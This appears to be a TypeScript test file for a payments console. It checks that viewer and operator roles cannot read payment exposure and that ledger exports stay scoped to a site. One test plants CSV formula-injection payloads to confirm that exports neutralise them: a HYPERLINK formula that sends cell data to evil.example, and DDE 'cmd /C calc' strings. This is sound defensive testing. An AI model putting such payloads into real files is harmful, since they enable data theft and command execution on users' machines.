/**
 * Issue 16, "nothing a lesser role holds may read money": money reached by a
 * viewer (and a site's finance reaching another site) through every door
 * that carries it. The offline payment exposure is finance's (issue 16:
 * "finance (ledger, refunds, exposure, exports)"; console-api.ts puts it
 * under money:read), yet it also rode along in the fleet's views: the device
 * list and page, the newest telemetry report, GraphQL's Device. CSV exports:
 * the ledger is finance's, scoped to the token's sites, and a formula in a
 * name or a note reaches a spreadsheet as text.
 */
import { randomUUID } from "node:crypto";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { ConsoleCloud } from "./console-harness.ts";

const it = suite("console: money behind RBAC");
const cloud = new ConsoleCloud();
it.before(() => cloud.start());
it.after(() => cloud.close());

/** The exposure the harness's kiosk s1/k1 reported: 43.21 EUR over 3 offline payments. */
const EXPOSURE = /offlineExposure|"?4321"?/;

async function fleetDoors(access: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const path of [
    "/api/v1/devices",
    "/api/v1/devices?site=s1",
    "/api/v1/devices/s1/k1",
    "/api/v1/devices/s1/k1/telemetry/latest",
  ]) {
    const a = await cloud.call("GET", path, { bearer: access });
    assert.is(a.status, 200, `${path}: ${a.text}`);
    out[path] = a.text;
  }
  const gql = await cloud.gql(
    'query { device(site: "s1", id: "k1") { payments telemetry { report } } devices { items { payments } } site(id: "s1") { devices { items { payments } } } }',
    { bearer: access },
  );
  assert.is(gql.body.errors, undefined, gql.text);
  out.graphql = gql.text;
  return out;
}

it("a viewer and an operator read the fleet without the offline payment exposure", async () => {
  for (const who of ["vera", "olga"] as const) {
    const { access } = await cloud.login(who);
    assert.is((await cloud.call("GET", "/api/v1/exposure?site=s1", { bearer: access })).status, 403);
    for (const [door, text] of Object.entries(await fleetDoors(access))) {
      assert.not.match(text, EXPOSURE, `${who} reads the exposure through ${door}: ${text.slice(0, 300)}`);
    }
  }
});

it("finance still reads it beside the fleet", async () => {
  const { access } = await cloud.login("fiona");
  const seen = await fleetDoors(access);
  assert.match(seen["/api/v1/devices/s1/k1"]!, /"offlineExposure":4321/);
  assert.match(seen.graphql!, /"offlineExposure":4321/);
});

it("a viewer exports no ledger; a finance of s1 exports s1's only", async () => {
  await cloud.purchase(randomUUID());
  const viewer = await cloud.login("vera");
  const v = await cloud.call("GET", "/api/v1/exports/ledger.csv?site=s1", { bearer: viewer.access });
  assert.is(v.status, 403);
  assert.not.match(v.text, /purchase/);
  const fred = await cloud.login("fred");
  const other = await cloud.call("GET", "/api/v1/exports/ledger.csv?site=s2", { bearer: fred.access });
  assert.is(other.status, 403);
  const own = await cloud.call("GET", "/api/v1/exports/ledger.csv", { bearer: fred.access });
  assert.is(own.status, 200);
  const rows = own.text.trim().split("\n").slice(1);
  assert.ok(rows.length > 0 && rows.every((r) => r.split(",")[1] === "s1"), own.text);
});

it("a formula in a member's name or a refund's reason reaches the spreadsheet as text", async () => {
  const formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
  await cloud.db.query("UPDATE members SET name = $1 WHERE site_id = 's1' AND id = 'm-ada'", [formula]);
  await cloud.db.query(
    `INSERT INTO inbox (site_id, device_id, seq, entry_id, kind, outcome, at, body, received_at)
     VALUES ('s1', 'k1', 9001, $1, 'checkin', 'applied', now(), $2, now())`,
    [
      randomUUID(),
      JSON.stringify({ memberId: "m-ada", credential: { type: "card", uid: "04A2B3C4" }, replicaVersion: 1 }),
    ],
  );
  const paymentId = await cloud.purchase(randomUUID());
  const finance = await cloud.login("fiona");
  const reasons = ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1", "\t=1+1"];
  for (const reason of reasons) {
    const refund = await cloud.call("POST", `/api/v1/payments/${paymentId}/refunds`, {
      bearer: finance.access,
      body: { amount: 1, reason },
      headers: { "idempotency-key": randomUUID() },
    });
    assert.is(refund.status, 201, refund.text);
  }
  const checkins = await cloud.call("GET", "/api/v1/exports/checkins.csv?site=s1", { bearer: finance.access });
  const ledger = await cloud.call("GET", "/api/v1/exports/ledger.csv?site=s1", { bearer: finance.access });
  // A refusal has no formula cell either: each export must answer, and hold what was typed.
  assert.is(checkins.status, 200, checkins.text);
  assert.is(ledger.status, 200, ledger.text);
  const cells = new Set<string>();
  for (const csv of [checkins.text, ledger.text]) {
    for (const line of csv.split("\n")) {
      // Every cell (quoted or not) that starts with a formula character has the leading '.
      for (const cell of line.match(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g) ?? []) {
        const value = cell.replace(/^,/, "").replace(/^"|"$/g, "");
        cells.add(value);
        // A signed amount is a number, not a formula.
        if (/^-?\d+$/.test(value)) continue;
        assert.not.match(value, /^[=+\-@\t\r]/, `a live formula cell: ${value}`);
      }
    }
  }
  assert.match(checkins.text, /'=HYPERLINK/);
  for (const reason of reasons) assert.ok(cells.has(`'${reason}`), `the reason ${JSON.stringify(reason)} as text`);
});

it.run();
